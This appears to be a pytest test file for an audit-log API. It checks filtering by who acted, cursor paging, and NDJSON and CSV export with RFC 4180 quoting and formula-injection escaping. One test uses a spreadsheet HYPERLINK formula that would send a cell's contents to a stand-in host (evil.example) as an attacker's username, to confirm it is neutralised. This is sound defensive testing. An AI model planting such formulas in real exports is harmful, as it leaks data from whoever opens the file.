"""The audit log filtered by who acted (``actor``) as well as whom an event concerns (``user_id``),
in the listing and the export, and the export as CSV: RFC 4180 quoting, one header for a whole
export however many answers it takes, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote, urlencode

import pytest

from chalicelib.base import audit_csv
from tests.support.authenticator import SoftwareAuthenticator
from tests.support.keyward_client import KeywardClient, Member

EMOJI = "\U0001f600"


def _listed(api: KeywardClient, reader: Member, **query: str) -> tuple[list[dict], int]:
    """Every event the listing gives for the query, following ``next`` to the end, and how many pages it took."""
    found: list[dict] = []
    cursor = None
    for pages in range(1, 200):
        params = {**query, **({"next": cursor} if cursor else {})}
        reply = api.call("GET", "/org/audit?" + urlencode(params), token=reader.token)
        assert reply.status == 200, reply.body
        found += reply.body["events"]
        cursor = reply.body["next"]
        if cursor is None:
            return found, pages
    raise AssertionError("the cursor never ran out")


def _export(api: KeywardClient, reader: Member, **query: str) -> list[tuple[str, dict[str, str]]]:
    """An export followed to its end: each answer's body as sent (NDJSON or CSV) and its headers."""
    answers: list[tuple[str, dict[str, str]]] = []
    cursor = ""
    for _ in range(200):
        params = {**query, **({"next": cursor} if cursor else {})}
        response = api.client.http.get("/org/audit/export?" + urlencode(params), headers=_auth(reader))
        assert response.status_code == 200, response.body
        headers = {name.lower(): value for name, value in response.headers.items()}
        answers.append((response.body.decode(), headers))
        cursor = headers.get("keyward-next-cursor", "")
        if not cursor:
            return answers
    raise AssertionError("the cursor never ran out")


def _file(api: KeywardClient, reader: Member, **query: str) -> str:
    """The export's answers put one after the other, as a client saves them to one file."""
    return "".join(body for body, _ in _export(api, reader, **query))


def _auth(reader: Member) -> dict[str, str]:
    return {"authorization": f"Bearer {reader.token}"}


def _morning(api: KeywardClient, admin: Member) -> str:
    """Events where who acted and whom they concern differ: alice (the admin) removes bob's key,
    bob acts for himself, carol signs in, and backup credentials sign in. Returns the backup key ID."""
    bob = api.login(user="bob")
    first, second = SoftwareAuthenticator(), SoftwareAuthenticator()
    assert api.add_key(bob, first, name="First").status == 201
    added = api.add_key(bob, second, name="Second")
    assert added.status == 201, added.body
    api.login(user="carol")
    deleted = api.call("DELETE", f"/org/members/bob/mfa/keys/{added.body['key']['id']}", token=admin.token)
    assert deleted.status == 204, deleted.body
    issued = api.call("POST", "/org/backup-credentials", token=admin.token)
    assert issued.status == 201, issued.body
    signed_in = api.call(
        "POST", "/auth/backup-login", body={"key_id": issued.body["key_id"], "secret": issued.body["secret"]}
    )
    assert signed_in.status == 200, signed_in.body
    return issued.body["key_id"]


# --- who acted ------------------------------------------------------------------------------------


def test_the_log_filters_by_who_acted_alone_and_with_whom_it_concerns(api, admin):
    backup_id = _morning(api, admin)
    everything, _ = _listed(api, admin)

    alices, _ = _listed(api, admin, actor="alice")
    assert alices == [e for e in everything if e["actor"] == "alice"]
    assert "key.deleted" in [e["action"] for e in alices] and "backup_credentials.created" in [
        e["action"] for e in alices
    ]
    # Who acted and whom it concerns are different filters: alice removed bob's key.
    [removal] = _listed(api, admin, actor="alice", user_id="bob")[0]
    assert (removal["action"], removal["actor"], removal["user_id"]) == ("key.deleted", "alice", "bob")
    about_bob, _ = _listed(api, admin, user_id="bob")
    assert [e for e in about_bob if e["actor"] != "bob"] == [removal]
    by_bob, _ = _listed(api, admin, actor="bob", user_id="bob")
    assert by_bob == [e for e in about_bob if e["actor"] == "bob"]
    assert [e["action"] for e in by_bob] == ["key.registered", "key.registered", "login"]
    assert _listed(api, admin, actor="bob", action="key.registered")[0] == by_bob[:2]

    [backup_login] = _listed(api, admin, actor=f"backup credentials {backup_id}")[0]
    assert (backup_login["action"], backup_login["actor_kind"]) == ("backup_login.succeeded", "backup_credentials")
    assert _listed(api, admin, actor="nobody")[0] == []
    # An empty filter is the same as leaving it out, as for `action` and `user_id`.
    assert _listed(api, admin, actor="")[0] == everything


def test_filtered_pages_are_full_until_the_last_and_followed_to_the_end_hold_every_match(api, admin):
    _morning(api, admin)
    everything, _ = _listed(api, admin)
    bobs = [e for e in everything if e["actor"] == "bob"]
    assert len(bobs) == 3 and len(everything) > 6

    # The matches are not spread over pages of the whole log: each page holds as many as it may.
    one_by_one, pages = _listed(api, admin, actor="bob", limit="1")
    # The third page ends where a page ends, so a fourth, empty and last, says there is no more.
    assert one_by_one == bobs and pages == 4
    two_by_two, pages = _listed(api, admin, actor="bob", limit="2")
    assert two_by_two == bobs and pages == 2
    [about_bob_by_alice] = _listed(api, admin, actor="alice", user_id="bob", limit="1")[0]
    assert about_bob_by_alice["action"] == "key.deleted"
    first = api.call("GET", "/org/audit?actor=carol&limit=2", token=admin.token).body
    assert [e["actor"] for e in first["events"]] == ["carol"] and first["next"] is None


def test_the_export_filters_by_who_acted_oldest_first_across_its_answers(api, admin, monkeypatch):
    from chalicelib.base import audit

    _morning(api, admin)
    everything, _ = _listed(api, admin)
    monkeypatch.setattr(audit, "EXPORT_PAGE", 2)

    answers = _export(api, admin, actor="alice")
    assert len(answers) > 2
    assert all(headers["content-type"] == "application/x-ndjson" for _, headers in answers)
    exported = [json.loads(line) for body, _ in answers for line in body.splitlines()]
    assert exported == [e for e in reversed(everything) if e["actor"] == "alice"]

    removals = _file(api, admin, actor="alice", user_id="bob")
    assert [json.loads(line)["action"] for line in removals.splitlines()] == ["key.deleted"]


@pytest.mark.parametrize("path", ["/org/audit", "/org/audit/export"])
@pytest.mark.parametrize("actor", ["a" * 256, EMOJI * 256, "x" * 100_000, "bob\u0000", "tab\there"])
def test_an_actor_no_event_can_name_is_a_bad_request(api, admin, path, actor):
    reply = api.call("GET", f"{path}?actor={quote(actor)}", token=admin.token)

    assert (reply.status, reply.code) == (400, "MalformedRequest"), reply.body
    assert "'actor'" in reply.body["Message"]


def test_an_actor_at_the_longest_user_id_is_found(api, admin):
    longest = EMOJI * 255
    api.login(user=longest)

    reply = api.call("GET", f"/org/audit?actor={quote(longest)}", token=admin.token)

    assert reply.status == 200, reply.body
    assert [(e["action"], e["actor"]) for e in reply.body["events"]] == [("login", longest)]


def test_members_may_not_export_by_actor(api, admin):
    bob = api.login(user="bob")
    for path in ("/org/audit?actor=alice", "/org/audit/export?actor=alice&format=csv"):
        assert api.call("GET", path, token=bob.token).code == "AdminRequired"


# --- CSV ------------------------------------------------------------------------------------------


def test_the_csv_export_has_a_header_and_one_row_an_event_with_details_as_json(api, admin):
    bob = api.login(user="bob")
    key = api.add_key(bob, name="Blue")
    assert key.status == 201
    renamed = api.call("PATCH", f"/me/mfa/keys/{key.body['key']['id']}", token=bob.token, body={"name": 'Red, "big"'})
    assert renamed.status == 200, renamed.body
    everything, _ = _listed(api, admin)

    response = api.client.http.get("/org/audit/export?format=csv", headers=_auth(admin))

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.body.decode()
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(audit_csv.COLUMNS)
    events = list(reversed(everything))
    assert len(rows) == len(events) + 1
    for row, event in zip(rows[1:], events, strict=True):
        as_listed = {column: "" if event[column] is None else event[column] for column in audit_csv.COLUMNS}
        as_listed["details"] = json.loads(row[-1]) if row[-1] else ""
        assert dict(zip(audit_csv.COLUMNS, [*row[:-1], as_listed["details"]], strict=True)) == {
            **as_listed,
            "details": event["details"] or "",
        }
    # The renamed key's details hold a comma and double quotes: the cell is quoted, its quotes doubled.
    assert '"{""name"":""Red, \\""big\\""""}"' in text


def test_a_csv_export_across_answers_makes_one_file_with_one_header(api, admin, monkeypatch):
    from chalicelib.base import audit

    for user in ("bob", "carol", "dave", "erin"):
        api.login(user=user)
    monkeypatch.setattr(audit, "EXPORT_PAGE", 2)

    answers = [body for body, _ in _export(api, admin, format="csv")]
    assert len(answers) >= 3
    assert answers[0].startswith("at,actor,actor_kind,")
    assert not any(answer.startswith("at,") for answer in answers[1:])
    rows = list(csv.reader(io.StringIO("".join(answers), newline="")))
    assert rows[0] == list(audit_csv.COLUMNS)
    logins = [row[1] for row in rows[1:] if row[3] == "login"]
    assert logins[-4:] == ["bob", "carol", "dave", "erin"]
    # Filters apply to CSV as to NDJSON.
    only_dave = list(csv.reader(io.StringIO(_file(api, admin, format="csv", actor="dave"), newline="")))
    assert [(row[1], row[3]) for row in only_dave[1:]] == [("dave", "login")]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(api, admin):
    attacker = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    api.login(user=attacker)
    api.login(user="-2+3")
    api.login(user="@SUM(A1)")
    api.login(user="+1")

    rows = list(csv.reader(io.StringIO(_file(api, admin, format="csv", action="login"), newline="")))

    actors = [row[1] for row in rows[1:]]
    assert actors[-4:] == ["'" + attacker, "'-2+3", "'@SUM(A1)", "'+1"]
    assert [row[5] for row in rows[1:]][-4:] == actors[-4:]  # user_id too
    # NDJSON carries the names as they are: only a spreadsheet needs the quote.
    ndjson = [json.loads(line) for line in _file(api, admin, action="login").splitlines()]
    assert [e["actor"] for e in ndjson][-4:] == [attacker, "-2+3", "@SUM(A1)", "+1"]


@pytest.mark.parametrize("value", ["xml", "CSV", "json", "csv,ndjson"])
def test_an_unknown_export_format_is_a_bad_request(api, admin, value):
    reply = api.call("GET", f"/org/audit/export?format={quote(value)}", token=admin.token)

    assert (reply.status, reply.code) == (400, "MalformedRequest"), reply.body
    assert "'format'" in reply.body["Message"]


def test_ndjson_is_the_export_format_when_none_or_ndjson_is_named(api, admin):
    for query in ("", "?format=", "?format=ndjson"):
        response = api.client.http.get(f"/org/audit/export{query}", headers=_auth(admin))
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "application/x-ndjson"
        assert all(json.loads(line)["action"] for line in response.body.decode().splitlines())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=b", "a=b"),
        ("2026-01-01T00:00:00Z", "2026-01-01T00:00:00Z"),
        (None, ""),
        ({"name": "-x"}, '{"name":"-x"}'),
        ({"keys": [{"id": "k", "name": "ü"}]}, '{"keys":[{"id":"k","name":"ü"}]}'),
    ],
)
def test_a_cell_is_its_text_with_a_quote_before_a_formula(value, cell):
    assert audit_csv.cell(value) == cell


def test_rows_quote_commas_quotes_and_line_breaks_as_rfc_4180_says():
    event = dict.fromkeys(audit_csv.COLUMNS, None) | {
        "at": "2026-01-01T00:00:00Z",
        "actor": 'bob "the builder", jr',
        "action": "login",
        "user_agent": "line one\nline two",
    }

    text = audit_csv.rows([event], header=False)

    assert text == '2026-01-01T00:00:00Z,"bob ""the builder"", jr",,login,,,,"line one\nline two",\r\n'
    [row] = csv.reader(io.StringIO(text, newline=""))
    assert row[1] == 'bob "the builder", jr' and row[7] == "line one\nline two"
